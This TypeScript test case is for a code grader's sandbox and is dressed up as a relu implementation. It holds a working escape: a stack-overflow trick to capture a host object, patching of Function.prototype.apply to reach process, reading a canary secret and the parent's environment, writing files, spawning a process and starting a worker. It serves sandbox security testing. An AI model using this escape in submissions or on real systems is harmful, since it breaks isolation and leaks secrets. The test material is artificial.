// 82-overflow-files [escape]
// Tries: the same; files, processes, threads
// A correct grader must report: wrong or forbidden or crash. No canary file.
let H: any = null; let proc: any = null;
function rec(): void { try { import('x').catch(() => {}); } catch (e: any) { if (typeof e === 'object' && e && !(e instanceof Error)) H ??= e; } rec(); }
try { rec(); } catch {}
let info = 'H=' + (H !== null);
if (H) {
  const FP = Object.getPrototypeOf(Object.getPrototypeOf(H.constructor)); const apply = FP.apply;
  FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; } return Reflect.apply(this, self, args ?? []); };
  Promise.reject(1);
}
let st = '';
const go = () => { if (!proc || st !== '') return; const fs = proc.getBuiltinModule('node:fs'); for (const [n, f] of [['read', () => fs.readFileSync('/tmp/pravah-canary/secret.txt', 'utf8')], ['write', () => fs.writeFileSync('/tmp/pravah-canary/pwned', 'x')], ['spawn', () => String(proc.getBuiltinModule('node:child_process').spawnSync('/usr/bin/touch', ['/tmp/pravah-canary/p2']).error)], ['procenv', () => fs.readFileSync('/proc/' + proc.ppid + '/environ', 'utf8').length], ['worker', () => typeof new (proc.getBuiltinModule('node:worker_threads').Worker)('1', { eval: true })]] as any) { try { st += n + ':' + f() + ' '; } catch (e) { st += n + '!' + e + ' '; } } };
export function relu(x: number[]): number[] { go(); throw new Error(info + ' ' + !!proc + ' ' + st); }
export function reluBackward(d: number[], x: number[]): number[] { throw new Error(info + ' ' + !!proc + ' ' + st); }
